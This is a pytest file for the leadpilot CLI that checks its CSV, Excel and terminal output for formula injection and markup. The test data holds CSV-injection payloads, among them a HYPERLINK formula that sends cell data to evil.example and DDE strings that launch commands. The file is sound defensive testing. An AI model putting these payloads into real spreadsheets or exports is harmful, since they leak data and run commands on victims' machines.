"""Output safety: what the data holds is shown as written and never executed.

- CSV (``--format csv`` of every command, ``score apply --out``): a text cell or header
  starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a ``'`` before it
  (OWASP, CSV injection); numbers stay numbers; JSON is unchanged.
- Excel (the report's workbook): no formula anywhere, every text a text cell holding the
  value exactly as written, formula-like ones with the quote prefix.
- Terminal: Rich markup and emoji codes in data are printed as written.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from helpers import write_config
from typer.testing import CliRunner

import leadpilot
from leadpilot.cli import app as cli
from leadpilot.results.render import neutral, write_frame_csv

RISKY = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
         "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip
MARKUP = ["[bold red]looks bold[/bold red]", ":white_check_mark: done", "[link=http://x]y[/link]"]
runner = CliRunner()


def _csv(path: Path, header: list[str], rows: list[list]) -> None:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(header)
    w.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")


@pytest.fixture(scope="module")
def ws(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("outputs")
    src = base / "src"
    src.mkdir()
    # (a carriage return inside a quoted cell is read as a line end by the CSV reader:
    # that one is checked on the writers only)
    channels = [v for v in RISKY if "\r" not in v] + MARKUP + ["paid_search"]
    leads, deals, spend = [], [], []
    for i, ch in enumerate(channels):
        for k in range(4):
            lid = f"L{i}-{k}"
            leads.append([lid, f"2025-0{1 + k % 3}-1{k}", ch, ch])
            if k == 0:
                deals.append([f"D{i}", lid, "2025-03-01", "won", "2025-03-20", 100])
        spend.append(["2025-01-05", ch, ch, 5000])  # ROI below zero: '-0.98', a number
    _csv(src / "leads.csv", ["lead_id", "created_at", "channel", "campaign"], leads)
    _csv(src / "deals.csv", ["deal_id", "lead_id", "created_at", "status", "closed_at", "amount"],
         deals)  # fmt: skip
    _csv(src / "spend.csv", ["date", "channel", "campaign", "amount"], spend)
    bad = base / "bad"
    bad.mkdir()
    _csv(bad / "touchpoints.csv", ["lead_id", "ts", "type"],
         [["L0-0", "2025-01-11", t] for t in RISKY[:2] + MARKUP])  # fmt: skip
    ws = write_config(base / "ws").parent
    with leadpilot.open(ws) as lp:
        lp.ingest(src)
        lp.ingest(bad, policy="quarantine")
    return ws


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_kpis_csv_neutralises_formulas(ws):
    args = ["kpis", "-w", str(ws), "--by", "campaign", "--kpi", "all", "--format", "csv"]
    out = runner.invoke(cli, args)
    assert out.exit_code == 0, out.output
    rows = _cells(out.stdout)
    header, body = rows[0], rows[1:]
    got = {r[header.index("campaign")] for r in body}
    for value in RISKY[:-1]:  # (the ingest trims the tab of '\t=1+1')
        assert "'" + value.strip() in got, (value, got)
    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "@", "\t", "\r")]
    roi = [r[header.index("roi")] for r in body]
    assert any(v.startswith("-") for v in roi)  # a negative number stays a number
    assert not [c for r in rows for c in r if c.startswith("-") and not _number(c)]
    # JSON carries the values exactly as written
    doc = runner.invoke(cli, ["kpis", "-w", str(ws), "--by", "campaign", "--format", "json"])
    stored = {r["campaign"] for r in json.loads(doc.stdout)["rows"]}
    assert {v.strip() for v in RISKY[:-1]} <= stored


def _number(text: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", text) is not None


def test_quarantine_csv_neutralises_the_value_as_written(ws):
    out = runner.invoke(cli, ["quarantine", "-w", str(ws), "--format", "csv"])
    assert out.exit_code == 0, out.output
    rows = _cells(out.stdout)
    values = {r[rows[0].index("value")] for r in rows[1:]}
    assert {"'" + v for v in RISKY[:2]} <= values
    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "@")]


@pytest.mark.parametrize("comma", [False, True], ids=["arrow", "pandas"])
def test_frame_csv_neutralises_cells_and_headers(comma):
    """score apply --out: the fast Arrow writer and the pandas fallback (quoted values)."""
    df = pd.DataFrame({
        "lead_id": ["=1+1", "+2", "ok" + ("," if comma else ""), None],
        "score": [-5.0, 1.0, 2.0, 3.0],
        "=cmd": ["@x", "-y", "\tz", "fine"],
    })  # fmt: skip
    buf = io.BytesIO()
    write_frame_csv(df, buf)
    rows = _cells(buf.getvalue().decode("utf-8"))
    assert rows[0] == ["lead_id", "score", "'=cmd"]
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'+2", "ok" + ("," if comma else ""), ""]
    assert [float(r[1]) for r in rows[1:]] == [-5.0, 1.0, 2.0, 3.0]  # numbers as numbers
    assert rows[1][1].startswith("-")
    assert [r[2] for r in rows[1:]] == ["'@x", "'-y", "'\tz", "fine"]


def test_neutral_only_touches_formula_starts():
    assert [neutral(v) for v in ("a=b", "", "(1)", 3, None, -1.5)] == [
        "a=b", "", "(1)", 3, None, -1.5
    ]
    assert all(neutral(v) == "'" + v for v in RISKY)


def test_excel_report_holds_no_formula_and_every_value_as_written(ws, tmp_path):
    from openpyxl import load_workbook

    data = leadpilot.open(ws).report(period="2025-Q1").xlsx()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(z.read(n).decode("utf-8") for n in sheets)
    assert "<f>" not in xml and "<f " not in xml  # not one formula in the workbook
    path = tmp_path / "report.xlsx"
    path.write_bytes(data)
    found = {}
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for c in row:
                if isinstance(c.value, str) and any(v in c.value for v in RISKY):
                    assert c.data_type == "s"
                    found[c.value] = c.quotePrefix or not c.value.startswith(("=", "+", "-", "@"))
    assert found, "the channel names should appear in the workbook"
    assert all(found.values()), found  # formula-like texts carry the quote prefix
    assert {v for v in RISKY if any(k.startswith(v) or v in k for k in found)}


def test_terminal_shows_markup_and_emoji_codes_as_written(ws):
    out = runner.invoke(cli, ["kpis", "-w", str(ws), "--by", "campaign"],
                        env={"COLUMNS": "250"})  # fmt: skip
    assert out.exit_code == 0, out.output
    for value in MARKUP:
        assert value in out.stdout, value
    assert "✅" not in out.stdout
    q = runner.invoke(cli, ["quarantine", "-w", str(ws)], env={"COLUMNS": "250"})
    assert ":white_check_mark:" in q.stdout and "[bold red]looks bold[/bold red]" in q.stdout
    assert "✅" not in q.stdout


def test_error_messages_show_values_as_written(tmp_path):
    """A refused value in the one-line error (stderr) is not turned into an emoji."""
    import subprocess
    import sys

    src = tmp_path / "src"
    src.mkdir()
    (src / "leads.csv").write_text("lead_id,created_at\nL1,:white_check_mark:\n")
    run = subprocess.run(
        [sys.executable, "-m", "leadpilot", "ingest", str(src), "-w", str(tmp_path / "ws")],
        capture_output=True, text=True, env={"COLUMNS": "300", "PATH": "/usr/bin:/bin"},
    )  # fmt: skip
    assert run.returncode != 0
    assert ":white_check_mark:" in run.stderr and "✅" not in run.stderr
